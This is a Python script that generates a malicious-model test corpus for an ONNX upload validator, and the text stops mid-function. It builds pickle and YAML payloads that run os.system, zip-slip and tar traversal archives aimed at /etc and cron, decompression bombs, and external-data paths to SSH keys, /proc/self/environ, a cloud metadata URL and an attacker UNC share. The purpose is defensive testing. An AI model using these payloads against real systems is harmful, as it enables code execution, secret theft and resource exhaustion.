"""Build the malicious-model corpus that tests/security/test_malicious_models.py feeds to the validator.

Every file is an attack (or a random mutation of a valid model) that an uploader could send as
"model.onnx": pickles with a code-execution payload, archives (zip-slip, tar traversal, decompression
bombs), YAML with python tags, every ONNX external-data path trick (CVE-2022-25882, CVE-2024-27318),
crafted protobufs (declared lengths beyond any cap, nesting beyond the parser's limit, node-count
bombs), custom-domain operators, huge declared dims, run-time memory and CPU bombs, and at least
10,000 seeded mutations of valid models. The corpus is generated, never committed: it is small to
build (a couple of seconds) and a committed copy would be a pile of exploits in the repository.

Output: ``<directory>/<class>/...`` plus ``<directory>/manifest.json``, which maps each file (relative
path) to its class, the expected verdict (``reject``, or ``either`` for mutations and harmless
polyglots, which may still be valid models), a substring the rejection reason must contain, whether it
can be sent through the HTTP API as one upload, and any ``Limits`` overrides its check runs under.
The same seed and marker always give the same bytes (the marker path is inside the payloads).

    python scripts/make_malicious_corpus.py OUTPUT_DIR [--seed N] [--mutations N] [--marker PATH]

``build_corpus(directory, ...)`` is the importable entry point; it returns the manifest.
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import os
import pickle
import random
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any, Literal

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

Verdict = Literal["reject", "either"]

#: How many mutated copies of valid models the corpus holds by default (the issue asks for 10,000+).
DEFAULT_MUTATIONS = 10_000
#: Uncompressed size of every decompression bomb: ~1000x its compressed size (deflate's ceiling);
#: large enough to hurt a server that inflated uploads, small enough to build in well under a second.
BOMB_BYTES = 64 * 1024 * 1024
#: The files of one mutation folder (10,000 files in one directory slow down every listing).
_MUTATIONS_PER_DIR = 1000
_FIXED_ZIP_TIME = (1980, 1, 1, 0, 0, 0)
_OPSET = [helper.make_opsetid("", 17)]


@dataclass(frozen=True)
class Entry:
    """What the corpus expects of one file."""

    kind: str
    verdict: Verdict
    #: lower-case substring the rejection reason must contain (``None``: any clean reason)
    reason: str | None = None
    #: can be uploaded as one file through the API (symlinked directories and sparse over-cap files cannot)
    http: bool = True
    #: ``maas.settings.Limits`` overrides the check runs under (e.g. a short timeout for a CPU bomb)
    limits: dict[str, Any] = field(default_factory=dict)
    #: passes every static check by design: only a sandboxed run (onnxruntime under rlimits) rejects it
    runtime: bool = False


Manifest = dict[str, Entry]


class _Corpus:
    """Collects files and their manifest entries under one root."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.manifest: Manifest = {}

    def add(self, relative: str, data: bytes, entry: Entry) -> Path:
        path = self.root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.manifest[relative] = entry
        return path


# --------------------------------------------------------------------------------------------------
# valid base models (mutation seeds and carriers for the ONNX attacks)


def _model(nodes: list[onnx.NodeProto], inputs: list[onnx.ValueInfoProto], outputs: list[onnx.ValueInfoProto],
           initializers: list[onnx.TensorProto] | None = None, **kwargs: Any) -> onnx.ModelProto:
    graph = helper.make_graph(nodes, "g", inputs, outputs, initializer=initializers or [], **kwargs)
    return helper.make_model(graph, opset_imports=_OPSET, ir_version=8, producer_name="maas-corpus")


def _float_io(name: str, shape: list[int | str | None]) -> onnx.ValueInfoProto:
    return helper.make_tensor_value_info(name, TensorProto.FLOAT, shape)


def add_bias_model(bias: onnx.TensorProto) -> onnx.ModelProto:
    """y = x + bias over FP32 [n, 2]; the caller decides how ``bias`` is stored."""
    return _model([helper.make_node("Add", ["x", bias.name], ["y"])], [_float_io("x", [None, 2])],
                  [_float_io("y", [None, 2])], [bias])


def _if_model(then_graph: onnx.GraphProto | None = None) -> onnx.ModelProto:
    """y = If(sum(x) > 0, x + 1, x - 1): subgraphs for mutations and external data to hide in."""
    def branch(op: str, tag: str) -> onnx.GraphProto:
        one = numpy_helper.from_array(np.ones(2, dtype=np.float32), f"one_{tag}")
        return helper.make_graph([helper.make_node(op, ["x", f"one_{tag}"], [f"out_{tag}"])], tag, [],
                                 [_float_io(f"out_{tag}", [None, 2])], initializer=[one])

    zero = numpy_helper.from_array(np.array(0.0, dtype=np.float32), "zero")
    nodes = [
        helper.make_node("ReduceSum", ["x"], ["s"], keepdims=0),
        helper.make_node("Greater", ["s", "zero"], ["cond"]),
        helper.make_node("If", ["cond"], ["y"], then_branch=then_graph or branch("Add", "then"),
                         else_branch=branch("Sub", "else")),
    ]
    return _model(nodes, [_float_io("x", [None, 2])], [_float_io("y", [None, 2])], [zero])


def base_models() -> dict[str, bytes]:
    """The valid models mutations start from: the bundled example plus small graphs that cover
    initializers, node attributes, subgraphs, strings and integer outputs."""
    from maas.examples import example_model_path

    scale = _model([helper.make_node("Mul", ["x", "k"], ["y"])], [_float_io("x", ["batch", 4])],
                   [_float_io("y", ["batch", 4])], [numpy_helper.from_array(np.array(2.0, dtype=np.float32), "k")])
    rng = np.random.default_rng(0)
    mlp = _model(
        [helper.make_node("Gemm", ["x", "w", "b"], ["h"]), helper.make_node("Relu", ["h"], ["r"]),
         helper.make_node("ArgMax", ["r"], ["label"], axis=1, keepdims=0)],
        [_float_io("x", ["batch", 8])], [helper.make_tensor_value_info("label", TensorProto.INT64, ["batch"])],
        [numpy_helper.from_array(rng.standard_normal((8, 4)).astype(np.float32), "w"),
         numpy_helper.from_array(rng.standard_normal(4).astype(np.float32), "b")])
    strings = _model([helper.make_node("Identity", ["text"], ["out"])],
                     [helper.make_tensor_value_info("text", TensorProto.STRING, ["n"])],
                     [helper.make_tensor_value_info("out", TensorProto.STRING, ["n"])])
    constant = _model(
        [helper.make_node("Constant", [], ["c"], value=helper.make_tensor("cv", TensorProto.FLOAT, [3], [1, 2, 3])),
         helper.make_node("Add", ["x", "c"], ["y"])],
        [_float_io("x", ["n", 3])], [_float_io("y", ["n", 3])])
    return {
        "iris": example_model_path().read_bytes(),
        "scale": scale.SerializeToString(),
        "mlp": mlp.SerializeToString(),
        "strings": strings.SerializeToString(),
        "constant": constant.SerializeToString(),
        "if": _if_model().SerializeToString(),
    }


# --------------------------------------------------------------------------------------------------
# pickles, YAML, polyglots


class _SystemPayload:
    """Unpickling this runs ``os.system(command)``: the classic pickle RCE (MLflow CVE-2024-37052,
    BentoML CVE-2025-27520)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return (os.system, (self.command,))


def _touch(marker: Path) -> str:
    return f"touch {marker}"


def add_pickles(corpus: _Corpus, marker: Path) -> None:
    payload = _SystemPayload(_touch(marker))
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        corpus.add(f"pickle/reduce-p{protocol}.onnx", pickle.dumps(payload, protocol=protocol),
                   Entry("pickle", "reject", "pickle"))
    # torch.save's legacy format (a pickle of tensors) and an sklearn-style pickled estimator
    corpus.add("pickle/state-dict.pt", pickle.dumps({"weight": payload, "_metadata": {}}, protocol=2),
               Entry("pickle", "reject", "pickle"))
    # Pickles that do not start with the opcodes the sniffer names: still refused (not ONNX's 0x08).
    proto0 = pickle.dumps(payload, protocol=0)
    corpus.add("pickle/evasive-int-pop.onnx", b"I1\n0" + proto0, Entry("pickle", "reject", "not an onnx model"))
    corpus.add("pickle/evasive-binint.onnx", b"K\x010" + pickle.dumps(payload, protocol=1),
               Entry("pickle", "reject", "not an onnx model"))


def _zip(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=_FIXED_ZIP_TIME)
            info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def add_torch_zips(corpus: _Corpus, marker: Path) -> None:
    payload = pickle.dumps(_SystemPayload(_touch(marker)), protocol=2)
    torch_members = [("archive/data.pkl", payload), ("archive/byteorder", b"little"),
                     ("archive/data/0", bytes(16)), ("archive/version", b"3\n")]
    corpus.add("torch-zip/model.pt", _zip(torch_members), Entry("torch-zip", "reject", "zip"))
    corpus.add("torch-zip/stored.onnx", _zip(torch_members, zipfile.ZIP_STORED), Entry("torch-zip", "reject", "zip"))
    corpus.add("torch-zip/keras.keras", _zip([("config.json", b'{"class_name": "Lambda"}'),
                                              ("model.weights.h5", b"\x89HDF\r\n\x1a\n")]),
               Entry("torch-zip", "reject", "zip"))


def add_yaml(corpus: _Corpus, marker: Path) -> None:
    command = _touch(marker)
    documents = {
        "apply": f"--- !!python/object/apply:os.system [\"{command}\"]\n",
        "new": f"model: !!python/object/new:os.system [\"{command}\"]\n",
        "name": "loader: !!python/name:os.system\n",
        "subprocess": f"!!python/object/apply:subprocess.check_output [[sh, -c, \"{command}\"]]\n",
        "mlflow-mlmodel": ("artifact_path: model\nflavors:\n  python_function:\n    loader_module: "
                           f"!!python/object/apply:os.system [\"{command}\"]\n"),
    }
    for name, text in documents.items():
        corpus.add(f"yaml/{name}.yaml", text.encode(), Entry("yaml", "reject", "text file"))
    # Non-ASCII YAML is not sniffed as text; the ONNX magic check still refuses it.
    corpus.add("yaml/utf8.yaml", f"modèle: !!python/object/apply:os.system [\"{command}\"]\n".encode(),
               Entry("yaml", "reject", "not an onnx model"))


def add_polyglots(corpus: _Corpus, marker: Path, iris: bytes) -> None:
    """Valid ONNX carrying other formats: harmless as long as nothing but ONNX ever reads them (the
    marker proves the pickle never runs); they may validate."""
    payload = pickle.dumps(_SystemPayload(_touch(marker)), protocol=2)
    model = onnx.load_from_string(iris)
    model.doc_string = payload.decode("latin-1")
    helper.set_model_props(model, {"pickle": payload.hex()})
    corpus.add("polyglot/pickle-in-metadata.onnx", model.SerializeToString(), Entry("polyglot", "either"))
    corpus.add("polyglot/onnx-then-zip.onnx", iris + _zip([("data.pkl", payload)]), Entry("polyglot", "either"))
    corpus.add("polyglot/onnx-then-pickle.onnx", iris + payload, Entry("polyglot", "either"))
    # ONNX's first bytes in front of an archive and a pickle: past the sniffer, refused by the parse
    # or the checker (there is no graph).
    corpus.add("polyglot/magic-then-zip.onnx", b"\x08\x08" + _zip([("data.pkl", payload)]), Entry("polyglot", "reject"))
    corpus.add("polyglot/magic-then-pickle.onnx", b"\x08\x08" + payload, Entry("polyglot", "reject"))


# --------------------------------------------------------------------------------------------------
# archives and bombs


def _zeros_deflated(size: int, level: int = 9) -> tuple[bytes, int]:
    """Raw deflate stream and CRC-32 of ``size`` zero bytes, built in 1 MiB steps (never all in memory)."""
    compressor = zlib.compressobj(level, zlib.DEFLATED, -15)
    chunk = bytes(1024 * 1024)
    crc, parts = 0, []
    for _ in range(size // len(chunk)):
        parts.append(compressor.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(compressor.flush())
    return b"".join(parts), crc


def _gzip_member(deflated: bytes, crc: int, size: int) -> bytes:
    """A gzip file around a raw deflate stream (RFC 1952), mtime 0 for reproducible bytes."""
    header = b"\x1f\x8b\x08\x00" + struct.pack("<I", 0) + b"\x02\xff"
    return header + deflated + struct.pack("<II", crc, size & 0xFFFFFFFF)


def _zip_bomb(deflated: bytes, crc: int, size: int, name: str = "model.onnx") -> bytes:
    """A one-member zip whose member inflates to ``size`` bytes (local header + data + central dir)."""
    encoded = name.encode()
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(deflated), size, len(encoded), 0)
    central = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(deflated), size,
                          len(encoded), 0, 0, 0, 0, 0o100644 << 16, 0)
    body = local + encoded + deflated
    directory = central + encoded
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), len(body), 0)
    return body + directory + end


def _tar(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for info, data in members:
            info.mtime, info.uid, info.gid, info.uname, info.gname = 0, 0, 0, "", ""
            if data is not None:
                info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def _tar_info(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


def add_archives(corpus: _Corpus, marker: Path, iris: bytes) -> None:
    evil = f"#!/bin/sh\n{_touch(marker)}\n".encode()
    slips = [("../../../../tmp/evil.sh", evil), ("/etc/cron.d/evil", evil), ("..\\..\\evil.bat", evil),
             ("model/../../../x.onnx", iris), ("model.onnx", iris)]
    corpus.add("zip-slip/traversal.zip", _zip(slips), Entry("zip-slip", "reject", "zip"))
    corpus.add("zip-slip/traversal.onnx", _zip(slips[:1], zipfile.ZIP_STORED), Entry("zip-slip", "reject", "zip"))

    deflated, crc = _zeros_deflated(BOMB_BYTES)
    bomb = _zip_bomb(deflated, crc, BOMB_BYTES)
    corpus.add("zip-bomb/flat.zip", bomb, Entry("zip-bomb", "reject", "zip"))
    corpus.add("zip-bomb/nested.zip", _zip([(f"layer{i}.zip", bomb) for i in range(16)]),
               Entry("zip-bomb", "reject", "zip"))

    traversal = [(_tar_info("../../../../tmp/evil.sh"), evil), (_tar_info("/etc/cron.d/evil"), evil),
                 (_tar_info("link", tarfile.SYMTYPE, "/etc"), None), (_tar_info("link/passwd"), evil),
                 (_tar_info("escape", tarfile.SYMTYPE, "../../../.."), None),
                 (_tar_info("hard", tarfile.LNKTYPE, "/etc/shadow"), None),
                 (_tar_info("dev/mem", tarfile.CHRTYPE), None), (_tar_info("model.onnx"), iris)]
    corpus.add("tar/traversal.tar", _tar(traversal), Entry("tar", "reject", "tar"))
    corpus.add("tar/symlink-only.onnx", _tar([(_tar_info("model.onnx", tarfile.SYMTYPE, "/etc/passwd"), None)]),
               Entry("tar", "reject", "tar"))
    # A member whose name starts with ONNX's first byte gets past the sniffer; the protobuf parse refuses it.
    corpus.add("tar/onnx-magic-name.tar", _tar([(_tar_info("\x08../../evil"), evil)]),
               Entry("tar", "reject", "protobuf"))

    header = _tar([(_tar_info("model.onnx"), b"")])[:512]
    header = _tar_header_with_size(header, BOMB_BYTES)
    tar_deflated = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = bytes(1024 * 1024)
    tar_gz = tar_deflated.compress(header) + b"".join(tar_deflated.compress(chunk)
                                                      for _ in range(BOMB_BYTES // len(chunk)))
    tar_gz += tar_deflated.compress(bytes(1024)) + tar_deflated.flush()
    corpus.add("tar-bomb/zeros.tar.gz", tar_gz, Entry("tar-bomb", "reject", "gzip"))
    corpus.add("tar-bomb/declared-8GiB.tar", _tar_header_with_size(header, 8 * 1024**3) + evil,
               Entry("tar-bomb", "reject", "tar"))
    many = _tar([(_tar_info(f"d/{i:04d}"), b"") for i in range(400)])
    corpus.add("tar-bomb/many-members.tar", many, Entry("tar-bomb", "reject", "tar"))

    corpus.add("gzip-bomb/zeros.onnx.gz", _gzip_member(deflated, crc, BOMB_BYTES), Entry("gzip-bomb", "reject", "gzip"))
    corpus.add("gzip-bomb/model.onnx.gz", gzip.compress(iris, mtime=0), Entry("gzip-bomb", "reject", "gzip"))
    # Concatenated members: each inflates to 64 MiB, the file is still a few hundred KB.
    corpus.add("gzip-bomb/multi-member.gz", _gzip_member(deflated, crc, BOMB_BYTES) * 4,
               Entry("gzip-bomb", "reject", "gzip"))


def _tar_header_with_size(header: bytes, size: int) -> bytes:
    """A 512-byte tar header with its size field set to ``size`` (GNU base-256 when it overflows
    octal) and the checksum recomputed."""
    block = bytearray(header[:512])
    if size < 8**11:
        block[124:136] = f"{size:011o}\0".encode()
    else:
        block[124:136] = b"\x80" + size.to_bytes(11, "big")
    block[148:156] = b"        "
    block[148:156] = f"{sum(block):06o}\0 ".encode()
    return bytes(block)


# --------------------------------------------------------------------------------------------------
# ONNX external data (CVE-2022-25882, CVE-2024-27318)

#: Every way a location has been used to leave the model's directory, or to read something that is
#: not a file (devices, /proc), or to make a loader fetch a URL.
EXTERNAL_LOCATIONS: dict[str, str] = {
    "dotdot": "../x",
    "dotdot-deep": "../../../../../../etc/passwd",
    "absolute": "/etc/passwd",
    "subdir-escape": "subdir/../../x",
    "dot-slash": "./../x",
    "windows-dotdot": "..\\x",
    "windows-deep": "..\\..\\..\\windows\\win.ini",
    "windows-drive": "C:\\x",
    "windows-drive-slash": "C:/Windows/win.ini",
    "unc": "\\\\attacker\\share\\x",
    "url-encoded": "%2e%2e%2fx",
    "url-encoded-mixed": "..%2f..%2fetc%2fpasswd",
    "url-encoded-double": "%252e%252e%252fx",
    "nul-truncation": "weights.bin\x00../../etc/passwd",
    "nul-only": "\x00",
    "file-url": "file:///etc/passwd",
    "http-url": "http://169.254.169.254/latest/meta-data/",
    "device-zero": "/dev/zero",
    "device-urandom": "/dev/urandom",
    "proc-environ": "/proc/self/environ",
    "home": "~/.ssh/id_rsa",
    "fullwidth-dots": "\uff0e\uff0e\uff0fx",
    "leading-space": " ../x",
    "empty": "",
    "long": "a/" * 2000 + "x",
    "plain-sibling": "weights.bin",
}


def external_tensor(name: str, location: str, *, flag: bool = True, entries: bool = True) -> onnx.TensorProto:
    """A 2-float tensor stored as external data at ``location``; ``flag``/``entries`` drop the
    data_location flag or the key/value entries (each alone must be refused too)."""
    tensor = helper.make_tensor(name, TensorProto.FLOAT, [2], [0.0, 0.0])
    tensor.ClearField("float_data")
    if flag:
        tensor.data_location = TensorProto.EXTERNAL
    if entries:
        for key, value in (("location", location), ("offset", "0"), ("length", "8")):
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
    return tensor


def _external_placements(location: str) -> dict[str, onnx.ModelProto]:
    """The same external tensor hidden in each place a tensor can live in a model."""
    placements: dict[str, onnx.ModelProto] = {}
    placements["initializer"] = add_bias_model(external_tensor("bias", location))
    placements["flag-only"] = add_bias_model(external_tensor("bias", location, entries=False))
    placements["entries-only"] = add_bias_model(external_tensor("bias", location, flag=False))

    constant = helper.make_node("Constant", [], ["bias"])
    constant.attribute.append(helper.make_attribute("value", external_tensor("v", location)))
    placements["constant-attribute"] = _model([constant, helper.make_node("Add", ["x", "bias"], ["y"])],
                                              [_float_io("x", [None, 2])], [_float_io("y", [None, 2])])

    tensors_attr = helper.make_node("Identity", ["x"], ["y"])
    tensors_attr.attribute.append(helper.make_attribute("hidden", [external_tensor("t", location)]))
    placements["tensors-attribute"] = _model([tensors_attr], [_float_io("x", [None, 2])], [_float_io("y", [None, 2])])

    sparse = helper.make_sparse_tensor(external_tensor("sv", location),
                                       helper.make_tensor("si", TensorProto.INT64, [2], [0, 1]), [2])
    model = add_bias_model(helper.make_tensor("bias", TensorProto.FLOAT, [2], [0.0, 0.0]))
    model.graph.sparse_initializer.append(sparse)
    placements["sparse-initializer"] = model

    then_graph = helper.make_graph([helper.make_node("Add", ["x", "hidden"], ["out_then"])], "then", [],
                                   [_float_io("out_then", [None, 2])],
                                   initializer=[external_tensor("hidden", location)])
    placements["if-subgraph"] = _if_model(then_graph)

    nested = helper.make_graph([helper.make_node("Add", ["x", "deep"], ["out_then"])], "then", [],
                               [_float_io("out_then", [None, 2])], initializer=[external_tensor("deep", location)])
    for _ in range(3):  # If inside If inside If: subgraphs at any depth
        nested = _if_model(nested).graph
        nested.name = "then"
        nested.ClearField("input")
        nested.output[0].name = "out_then"
        nested.node[-1].output[0] = "out_then"
    placements["nested-subgraph"] = _if_model(nested)

    function = helper.make_function("local", "AddHidden", ["a"], ["b"], [
        helper.make_node("Constant", [], ["k"], value=external_tensor("fk", location)),
        helper.make_node("Add", ["a", "k"], ["b"])], _OPSET)
    model = _model([helper.make_node("AddHidden", ["x"], ["y"], domain="local")], [_float_io("x", [None, 2])],
                   [_float_io("y", [None, 2])])
    model.functions.append(function)
    model.opset_import.append(helper.make_opsetid("local", 1))
    placements["local-function"] = model

    model = add_bias_model(helper.make_tensor("bias", TensorProto.FLOAT, [2], [0.0, 0.0]))
    model.training_info.add().initialization.initializer.append(external_tensor("ti", location))
    placements["training-info"] = model
    return placements


def add_external_data(corpus: _Corpus) -> None:
    outside = corpus.root / "outside"
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "secret.bin").write_bytes(b"\x00\x00\x80?\x00\x00\x00@")  # two valid floats: a readable "secret"
    for name, location in EXTERNAL_LOCATIONS.items():
        corpus.add(f"external-data/location/{name}/model.onnx",
                   add_bias_model(external_tensor("bias", location)).SerializeToString(),
                   Entry("external-data", "reject", "external data"))
    (corpus.root / "external-data/location/plain-sibling/weights.bin").write_bytes(bytes(8))
    for name, model in _external_placements("../x").items():
        corpus.add(f"external-data/placement/{name}.onnx", model.SerializeToString(),
                   Entry("external-data", "reject", "external data"))
    # A symlink inside the model's directory pointing outside it: the location looks innocent.
    linked = corpus.root / "external-data/symlink-file"
    linked.mkdir(parents=True, exist_ok=True)
    _symlink(linked / "weights.bin", outside / "secret.bin")
    corpus.add("external-data/symlink-file/model.onnx",
               add_bias_model(external_tensor("bias", "weights.bin")).SerializeToString(),
               Entry("external-data", "reject", "external data", http=False))
    linked = corpus.root / "external-data/symlink-dir"
    linked.mkdir(parents=True, exist_ok=True)
    _symlink(linked / "data", outside)
    corpus.add("external-data/symlink-dir/model.onnx",
               add_bias_model(external_tensor("bias", "data/secret.bin")).SerializeToString(),
               Entry("external-data", "reject", "external data", http=False))


def _symlink(link: Path, target: Path) -> None:
    if link.is_symlink() or link.exists():
        link.unlink()
    link.symlink_to(target)


# --------------------------------------------------------------------------------------------------
# crafted protobufs


def _varint(value: int) -> bytes:
    value &= (1 << 64) - 1
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def _field(number: int, payload: bytes) -> bytes:
    """A length-delimited protobuf field."""
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def _deep_if_graph(depth: int) -> bytes:
    """A GraphProto nesting ``depth`` If nodes, each one's then_branch the next (3 messages a level)."""
    graph = _field(2, b"leaf")
    for _ in range(depth):
        attribute = _field(1, b"then_branch") + _varint(20 << 3) + _varint(5) + _field(6, graph)
        node = _field(1, b"cond") + _field(2, b"y") + _field(4, b"If") + _field(5, attribute)
        graph = _field(1, node) + _field(2, b"g")
    return graph


def add_oversized_protobufs(corpus: _Corpus, iris: bytes, limits_max_nodes: int) -> None:
    head = b"\x08\x08"  # ir_version 8: past the magic-byte check
    def add(name: str, data: bytes, reason: str | None = None, **kwargs: Any) -> None:
        corpus.add(f"protobuf/{name}.onnx", data, Entry("protobuf", "reject", reason, **kwargs))

    add("graph-declares-2GiB", head + _varint(7 << 3 | 2) + _varint(2**31) + b"\x0a\x00", "protobuf")
    add("graph-declares-2e63", head + _varint(7 << 3 | 2) + _varint(2**63) + b"\x0a\x00", "protobuf")
    add("varint-overflow", head + b"\x3a" + b"\xff" * 11 + b"\x01", "protobuf")
    add("tensor-declares-huge-raw", head + _field(7, _varint(5 << 3 | 2) + _varint(2**40)), "protobuf")
    add("negative-length", head + b"\x3a" + _varint(-1) + b"\x00", "protobuf")
    add("deep-nesting-200", head + _field(7, _deep_if_graph(200)) + _field(8, _field(2, b"") + b"\x10\x11"),
        "protobuf")
    add("deep-nesting-2000", head + _field(7, _deep_if_graph(2000)) + _field(8, _field(2, b"") + b"\x10\x11"),
        "protobuf")
    # Node-count bomb: one tiny node repeated past the cap (the count runs before the checker).
    node = _field(1, b"x") + _field(2, b"y") + _field(4, b"Identity")
    add("node-count-bomb", head + _field(7, _field(1, node) * (limits_max_nodes + 1)) + _field(8, b"\x10\x11"),
        "nodes")
    # Empty repeated messages: 2 bytes on disk, a message each in memory.
    add("empty-nodes-bomb", head + _field(7, b"\x0a\x00" * (limits_max_nodes + 1)) + _field(8, b"\x10\x11"), "nodes")
    # Floods of empty entries and attributes, under a small node cap so the files stay small: refused
    # by the cheap counts / the walk's message budget, not after minutes of walking.
    small = {"max_nodes": 1000}
    add("value-info-flood", head + _field(7, b"\x6a\x00" * (1000 * 16 + 1)), "entries", limits=small)
    flooded = _field(1, b"x") + _field(2, b"y") + _field(4, b"Identity") + b"\x2a\x00" * 40
    add("attribute-flood", head + _field(7, _field(1, flooded) * 900), "protobuf messages", limits=small)
    add("wrong-wire-type", head + b"\x3b" + iris[2:], "protobuf")
    add("garbage-after-magic", head + bytes(range(256)) * 4, "protobuf")
    # A file bigger than max_model_bytes, sparse on disk: refused by its size before a byte is read.
    from maas.settings import Limits

    cap = Limits().max_model_bytes
    path = corpus.add("protobuf/over-size-cap.onnx", iris, Entry("protobuf", "reject", "over the limit", http=False))
    with path.open("r+b") as f:
        f.truncate(cap + 1)


# --------------------------------------------------------------------------------------------------
# custom domains, huge dims, run-time bombs


def add_custom_domains(corpus: _Corpus) -> None:
    io_ = ([_float_io("x", [None, 2])], [_float_io("y", [None, 2])])
    domains = ("evil.custom", "ai.onnx.contrib", "com.microsoft.nchwc", "com.microsoft.extensions", "ai.onnx.training")
    for domain in domains:
        model = _model([helper.make_node("Run", ["x"], ["y"], domain=domain)], *io_)
        model.opset_import.append(helper.make_opsetid(domain, 1))
        corpus.add(f"custom-domain/{domain}.onnx", model.SerializeToString(),
                   Entry("custom-domain", "reject", "custom domain"))
    hidden = helper.make_graph([helper.make_node("Shell", ["x"], ["out_then"], domain="evil")], "then", [],
                               [_float_io("out_then", [None, 2])])
    model = _if_model(hidden)
    model.opset_import.append(helper.make_opsetid("evil", 1))
    corpus.add("custom-domain/in-subgraph.onnx", model.SerializeToString(),
               Entry("custom-domain", "reject", "custom domain"))
    function = helper.make_function("local", "Wrap", ["a"], ["b"], [helper.make_node("Shell", ["a"], ["b"],
                                                                                      domain="evil")],
                                    [*_OPSET, helper.make_opsetid("evil", 1)])
    model = _model([helper.make_node("Wrap", ["x"], ["y"], domain="local")], *io_)
    model.functions.append(function)
    model.opset_import.extend([helper.make_opsetid("local", 1), helper.make_opsetid("evil", 1)])
    corpus.add("custom-domain/in-local-function.onnx", model.SerializeToString(),
               Entry("custom-domain", "reject", "custom domain"))


def add_huge_dims(corpus: _Corpus) -> None:
    def add(name: str, model: onnx.ModelProto, reason: str | None) -> None:
        corpus.add(f"huge-dims/{name}.onnx", model.SerializeToString(), Entry("huge-dims", "reject", reason))

    for dims in ([2**62, 2**62], [2**31, 2**31], [100_000, 100_000], [2**63 - 1]):
        label = "x".join(str(d) for d in dims)
        add(f"input-{label}", _model([helper.make_node("Identity", ["x"], ["y"])], [_float_io("x", list(dims))],
                                     [_float_io("y", list(dims))]), "elements")
    for dims in ([2**40], [2**31, 2**31], [-5], [2**62, 4]):
        label = "x".join(str(d) for d in dims)
        tensor = onnx.TensorProto(name="bias", data_type=TensorProto.FLOAT, dims=dims, raw_data=bytes(8))
        add(f"initializer-{label}", add_bias_model(tensor), None)
    negative = _model([helper.make_node("Identity", ["x"], ["y"])], [_float_io("x", [-7, 2])],
                      [_float_io("y", [-7, 2])])
    corpus.add("huge-dims/input-negative.onnx", negative.SerializeToString(), Entry("huge-dims", "either"))


def memory_bomb() -> onnx.ModelProto:
    """A 200-byte file that asks for 64 GiB at run time: ConstantOfShape([2**34]) broadcast on x."""
    shape = helper.make_tensor("shape", TensorProto.INT64, [1], [2**34])
    nodes = [helper.make_node("ConstantOfShape", ["shape"], ["big"]), helper.make_node("Add", ["big", "x"], ["y"])]
    return _model(nodes, [_float_io("x", [1])], [_float_io("y", [2**34])], [shape])


def cpu_bomb() -> onnx.ModelProto:
    """A Loop of 2**62 trivial iterations: small, valid, and it never finishes."""
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Add", ["v_in", "one"], ["v_out"])],
        "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []),
         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []), _float_io("v_in", [1])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []), _float_io("v_out", [1])],
        initializer=[numpy_helper.from_array(np.ones(1, dtype=np.float32), "one")])
    trips = numpy_helper.from_array(np.array(2**62, dtype=np.int64), "trips")
    cond = numpy_helper.from_array(np.array(True), "cond")
    return _model([helper.make_node("Loop", ["trips", "cond", "x"], ["y"], body=body)], [_float_io("x", [1])],
                  [_float_io("y", [1])], [trips, cond])


def add_runtime_bombs(corpus: _Corpus) -> None:
    corpus.add("runtime-bomb/memory.onnx", memory_bomb().SerializeToString(),
               Entry("runtime-bomb", "reject", "memory", runtime=True))
    corpus.add("runtime-bomb/cpu.onnx", cpu_bomb().SerializeToString(),
               Entry("runtime-bomb", "reject", "time", runtime=True, limits={"validation_timeout_s": 3.0}))


# --------------------------------------------------------------------------------------------------
# mutations


_OP_TYPES = ["Add", "Mul", "Relu", "Identity", "Conv", "If", "Loop", "Reshape", "Gemm", "NoSuchOp", "", "ArgMax"]
_DOMAINS = ["", "ai.onnx", "ai.onnx.ml", "com.microsoft", "evil"]
_DIMS = [-7, -1, 0, 1, 3, 4, 2**31, 2**62]
_INTS = [-(2**63), -(2**31), -1, 0, 1, 2, 3, 17, 2**31, 2**63 - 1]


def _byte_mutation(rng: random.Random, data: bytes) -> bytes:
    out = bytearray(data)
    kind = rng.randrange(7)
    if kind == 0:  # byte flips
        for _ in range(rng.randint(1, 8)):
            out[rng.randrange(len(out))] = rng.randrange(256)
    elif kind == 1:  # bit flips
        for _ in range(rng.randint(1, 4)):
            out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
    elif kind == 2:  # truncation
        del out[rng.randrange(1, len(out)):]
    elif kind == 3:  # insertions
        for _ in range(rng.randint(1, 4)):
            out.insert(rng.randrange(len(out) + 1), rng.randrange(256))
    elif kind == 4:  # deletions
